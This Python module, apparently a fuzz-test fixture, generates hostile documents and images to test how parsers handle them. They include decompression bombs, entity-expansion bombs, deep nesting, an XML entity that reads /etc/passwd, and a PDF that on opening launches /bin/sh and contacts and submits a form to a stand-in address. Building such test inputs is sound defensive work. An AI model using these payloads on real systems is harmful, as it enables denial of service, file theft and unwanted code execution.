"""Files made to do harm: each small on the disk, and a burden to who believes what it says of itself.

A table from what it is to its name and how it is made; all are made anew, none is kept.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from random import Random

from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

from tests.fuzz.samples import package, sample

MEGA = 1_000_000
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def stream(content: bytes, told: bytes = b"") -> bytes:
    """A stream, deflated."""
    packed = zlib.compress(content, 9)
    head = b"<< /Length %d /Filter /FlateDecode %s >>" % (len(packed), told)
    return head + b"\nstream\n" + packed + b"\nendstream"


def page_of(content: bytes, told: bytes = b"", *others: bytes) -> bytes:
    """A PDF of one page. Its content is object 4, a font 5, others from 6 on."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << "
        b"/Font << /F 5 0 R >> %s >> >>" % told,
        stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *others,
    )


def _pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 3 0 R >>"
    head = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return pdf(*head, stream(b" "), *[page] * count)


def _shown(count: int) -> bytes:
    """So many characters on one page."""
    line = b"1 0 0 1 %d %d Tm (abcdefghijklmnopqrst) Tj\n"
    return b"BT /F 1 Tf\n" + b"".join(line % (n // 700 * 20, n % 700) for n in range(count // 20)) + b"ET"


def _drawn_in_drawn() -> bytes:
    """Forms that draw the next form ten times each: 10^9 drawings in 2 KB."""
    forms = []
    for number in range(9):
        told = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X %d 0 R >> >>"
        forms.append(stream(b"/X Do " * 10, told % (number + 7)))
    forms.append(stream(b"BT /F 9 Tf (x) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 600 800]"))
    return page_of(b"/X Do " * 10, b"/XObject << /X 6 0 R >>", *forms)


def _picture_in_pdf() -> bytes:
    """A page whose one picture has 60,000 by 60,000 dots, in half a megabyte."""
    size = b"/Width 60000 /Height 60000 /BitsPerComponent 1"
    told = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray " + size
    return page_of(b"600 0 0 800 0 0 cm /X Do", b"/XObject << /X 6 0 R >>", stream(bytes(450 * MEGA), told))


def _object_stream() -> bytes:
    """An object stream that unpacks to 100 MB, which the catalogue is in."""
    head = b"1 0 2 40 "
    body = b"<< /Type /Catalog /Pages 2 0 R >>".ljust(40) + b"<< /Type /Pages /Kids [] /Count 0 >>"
    packed = stream(head + body + b" " * (100 * MEGA), b"/Type /ObjStm /N 2 /First %d" % len(head))
    out = bytearray(b"%PDF-1.7\n")
    first = len(out)
    out += b"3 0 obj\n%s\nendobj\n" % packed
    start = len(out)
    rows = b"".join(
        struct.pack(">BIB", *row) for row in ((0, 0, 0), (2, 3, 0), (2, 3, 1), (1, first, 0), (1, start, 0))
    )
    told = b"/Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R"
    return bytes(out + b"4 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF" % (stream(rows, told), start))


def _acting() -> bytes:
    """A PDF that would run a program, a script and fetch an address when it is opened."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (http://192.0.2.1/) >> >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) /Next << /S /JavaScript "
        b"/JS (app.launchURL\\('http://192.0.2.1/'\\)) >> >> /Names << /EmbeddedFiles << /Names [] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Annots [%s] /AA << /O << "
        b"/S /SubmitForm /F (http://192.0.2.1/) >> >> /Resources << /Font << /F 5 0 R >> >> >>" % link,
        stream(b"BT /F 12 Tf 20 700 Td (a report) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def locked() -> bytes:
    """A PDF that opens with a password alone."""
    held = io.BytesIO()
    canvas = Canvas(held, encrypt=StandardEncryption("secret", "other", strength=128), invariant=1)
    canvas.drawString(20, 700, "a report")
    canvas.save()
    return held.getvalue()


def _font() -> bytes:
    """A page in a font whose file unpacks to 100 MB."""
    chars = b"/FirstChar 97 /LastChar 97 /Widths [500]"
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /X %s /FontDescriptor 7 0 R >>" % chars
    descriptor = b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 8 0 R >>"
    return page_of(
        b"BT /G 12 Tf 20 700 Td (aaa) Tj ET",
        b"/Font << /G 6 0 R >>",
        font,
        descriptor,
        stream(bytes(100 * MEGA)),
    )


def png(width: int, height: int, rows: int, kind: int = 0) -> bytes:
    """A PNG that says it is so large, and holds so many rows. Of kind 0 (grey), 6 (with transparency)."""
    bytes_a_row = 1 + width * {0: 1, 6: 4}[kind]
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)),
        (b"IDAT", zlib.compress(bytes(bytes_a_row * rows), 9)),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in chunks
    )


def _tiff(count: int) -> bytes:
    held = io.BytesIO()
    image = Image.new("1", (8, 8), 1)
    image.save(held, "TIFF", save_all=True, append_images=[image] * (count - 1))
    return held.getvalue()


def _tiff_in_circles() -> bytes:
    """Pages that lead back to the first for ever."""
    data = bytearray(_tiff(2))
    first = struct.unpack_from("<I", data, 4)[0]
    entries = struct.unpack_from("<H", data, first)[0]
    struct.pack_into("<I", data, first + 2 + 12 * entries, first)
    return bytes(data)


def _tiff_deflated() -> bytes:
    """A TIFF of 50,000 by 50,000 in one strip of 100 MB, deflated."""
    packed = zlib.compress(bytes(100 * MEGA), 9)
    entries = [
        (256, 4, 50_000),
        (257, 4, 50_000),
        (258, 3, 8),
        (259, 3, 8),
        (262, 3, 1),
        (273, 4, 8),
        (278, 4, 50_000),
    ]
    entries.append((279, 4, len(packed)))
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", t, k, 1, v) for t, k, v in entries)
    return b"II*\0" + struct.pack("<I", 8 + len(packed)) + packed + body + bytes(4)


def _jpeg() -> bytes:
    """A JPEG that says it is 65,500 by 65,500."""
    data = bytearray(sample("jpg"))
    place = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, place + 5, 65_500, 65_500)
    return bytes(data)


def _word(document: str) -> bytes:
    return package({"word/document.xml": document}, zipfile.ZIP_DEFLATED)


def _paragraphs(text: str) -> str:
    return f"<w:document {_W}><w:body>{text}</w:body></w:document>"


def _laughs() -> str:
    kept = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE a [<!ENTITY l0 "哈">{kept}]>' + _paragraphs("<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>")


def _reads_a_file() -> str:
    kept = '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return kept + _paragraphs("<w:p><w:r><w:t>&f;</w:t></w:r></w:p>")


def _members(count: int) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for number in range(count):
            archive.writestr(zipfile.ZipInfo(f"word/{number}.xml"), "")
    return held.getvalue()


_CELL = '<w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
_HEAD = '<!DOCTYPE html><meta charset="utf-8"><h1>工作报告</h1>'

MADE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "docx: 100 MB of XML packed in 0.1 MB": ("a.docx", lambda: _word(_paragraphs(" " * (100 * MEGA)))),
    "docx: 20 MB of empty paragraphs": ("a.docx", lambda: _word(_paragraphs("<w:p/>" * (19 * MEGA // 6)))),
    "docx: 9,000 parts": ("a.docx", lambda: _members(9_000)),
    "docx: entities that become 10^11 characters": ("a.docx", lambda: _word(_laughs())),
    "docx: an entity that is a file of this machine": ("a.docx", lambda: _word(_reads_a_file())),
    "docx: elements 10,000 deep": ("a.docx", lambda: _word(
        _paragraphs("<w:sdt>" * 10_000 + "</w:sdt>" * 10_000))),
    "docx: a cell over 99,999,999 columns": ("a.docx", lambda: _word(
        _paragraphs(f"<w:tbl><w:tr>{_CELL}</w:tr></w:tbl>"))),
    "png: says 60,000 × 60,000": ("a.png", lambda: png(60_000, 60_000, 10)),
    "png: 8,900 × 8,900, transparent": ("a.png", lambda: png(8_900, 8_900, 8_900, 6)),
    "png: one dot high, 100 million wide": ("a.png", lambda: png(100 * MEGA, 1, 1)),
    "jpeg: says 65,500 × 65,500": ("a.jpg", _jpeg),
    "tiff: 300 pages": ("a.tif", lambda: _tiff(300)),
    "tiff: pages in a circle": ("a.tif", _tiff_in_circles),
    "tiff: 50,000 × 50,000 deflated": ("a.tif", _tiff_deflated),
    "pdf: 10,000 pages": ("a.pdf", lambda: _pages(10_000)),
    "pdf: 100 MB of content packed in 0.1 MB": ("a.pdf", lambda: page_of(b" " * (100 * MEGA))),
    "pdf: 4 million drawings on a page": ("a.pdf", lambda: page_of(b"0 0 m 9 9 l S " * (4 * MEGA))),
    "pdf: 300,000 characters on a page": ("a.pdf", lambda: page_of(_shown(300_000))),
    "pdf: 190,000 characters on a page": ("a.pdf", lambda: page_of(_shown(190_000))),
    "pdf: 10^9 drawings of forms in forms": ("a.pdf", _drawn_in_drawn),
    "pdf: a picture of 60,000 × 60,000": ("a.pdf", _picture_in_pdf),
    "pdf: objects packed 1,000 times": ("a.pdf", _object_stream),
    "pdf: a font of 100 MB": ("a.pdf", _font),
    "pdf: a tree of pages in a circle": ("a.pdf", lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9999999 >>")),
    "pdf: arrays 100,000 deep": ("a.pdf", lambda: page_of(b"[" * 100_000, b"/X " + b"[" * 100_000)),
    "pdf: a million states saved, none restored": ("a.pdf", lambda: page_of(
        b"q " * MEGA + b"BT /F 9 Tf (x) Tj ET")),
    "pdf: launches, scripts, addresses": ("a.pdf", _acting),
    "pdf: locked with a password": ("a.pdf", locked),
    "html: 50 MB": ("a.html", lambda: (_HEAD + "<p>工作</p>" * (50 * MEGA // 13)).encode()),
    "html: 19 MB of paragraphs": ("a.html", lambda: (_HEAD + "<p>工作" * (19 * MEGA // 9)).encode()),
    "html: 100,000 divisions deep": ("a.html", lambda: (_HEAD + "<div>" * 100_000 + "工作").encode()),
    "html: 100,000 b, i and a, none closed": ("a.html", lambda: (_HEAD + "<p><b><i><a>工" * 25_000).encode()),
    "html: a cell over 65,534 rows, 5,000 times": ("a.html", lambda: (
        _HEAD + "<table>" + "<tr><td rowspan=65534 colspan=1000>工" * 5_000).encode()),
    "rtf: 10^9 bytes to be skipped": ("a.rtf", lambda: rb"{\rtf1 a\bin999999999 b}"),
    "rtf: groups 1,000,000 deep": ("a.rtf", lambda: rb"{\rtf1 " + b"{" * MEGA + b"a"),
    "rtf: 19 MB of paragraphs": ("a.rtf", lambda: rb"{\rtf1 " + rb"a\par " * (19 * MEGA // 6) + b"}"),
    "md: quotations 100,000 deep": ("a.md", lambda: b">" * 100_000 + b"a"),
    "md: 100,000 brackets": ("a.md", lambda: b"[" * 100_000 + b"](" * 100_000),
    "md: 300,000 stars and lines": ("a.md", lambda: b"*a_ **b __c " * 100_000),
    "md: 1,000 lists within each other": ("a.md", lambda: b"".join(
        b" " * (2 * n) + b"- a\n" for n in range(1_000))),
    "md: aliases of YAML within each other": ("a.md", lambda: _aliases()),
    "txt: 2 million characters": ("a.txt", lambda: ("工" * (2 * MEGA)).encode("gb18030")),
    "txt: 50 million bytes of noise": ("a.txt", lambda: Random(1).randbytes(50 * MEGA)),
}  # fmt: skip


def _aliases() -> bytes:
    rows = ["title: &a0 [x]"] + [f"k{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return ("---\n" + "\n".join(rows) + "\n---\n# 工作报告\n").encode()


def made() -> Iterator[tuple[str, str, bytes]]:
    """Each: what it is, its name, its bytes."""
    for what, (name, make) in MADE.items():
        yield what, name, make()
